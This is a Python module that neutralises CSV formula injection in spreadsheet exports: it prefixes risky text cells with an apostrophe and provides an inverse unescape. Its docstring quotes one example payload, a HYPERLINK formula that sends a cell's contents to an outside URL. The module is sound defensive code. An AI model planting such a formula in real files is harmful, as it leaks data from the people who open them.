"""Spreadsheet-safe CSV cells (OWASP "CSV Injection").

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some versions, a leading tab or carriage return) as a formula, so a model answer such
as ``=HYPERLINK("http://…?x="&B2)`` would run when a lead opens the export. Every CSV the app
writes goes through ``safe_frame``: such *text* cells get a leading apostrophe, which the
spreadsheet shows as text and hides. Real numbers are never touched — ``-32`` or ``-0.5`` held
as a number is written as a number, because only strings are prefixed; the same characters in a
string (``"-32"``) are prefixed, since the exporter cannot tell text meant as a number from an
attack. Readers that want the original text strip one leading ``'`` from cells whose second
character is one of the risky ones (``unescape_cell``).
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

RISKY_FIRST = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(RISKY_FIRST):
        return "'" + value
    return value


def unescape_cell(value: str) -> str:
    """The exported text back as it was (inverse of ``safe_cell`` for strings)."""
    if value.startswith("'") and value[1:].startswith(RISKY_FIRST):
        return value[1:]
    return value


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells are spreadsheet-safe; numeric columns untouched."""
    import pandas as pd

    out = df.copy()
    out.columns = [str(safe_cell(str(c))) for c in out.columns]
    for col in out.columns:
        if isinstance(out[col].dtype, pd.CategoricalDtype):
            # categories are text too (the ratings table keeps names and rationales as
            # categoricals): escape them as plain text, never skip them
            out[col] = out[col].astype(object).map(safe_cell)
        elif str(out[col].dtype) in ("string", "str"):
            # a text column: the risky cells found by one vectorised test, only they
            # changed (the same cells and dtype as mapping safe_cell, without a call per cell)
            text = out[col]
            risky = text.str.startswith(RISKY_FIRST).fillna(False).to_numpy(dtype=bool)
            if risky.any():
                out[col] = text.where(~risky, "'" + text)
        elif out[col].dtype == object:
            out[col] = out[col].map(safe_cell)
    return out
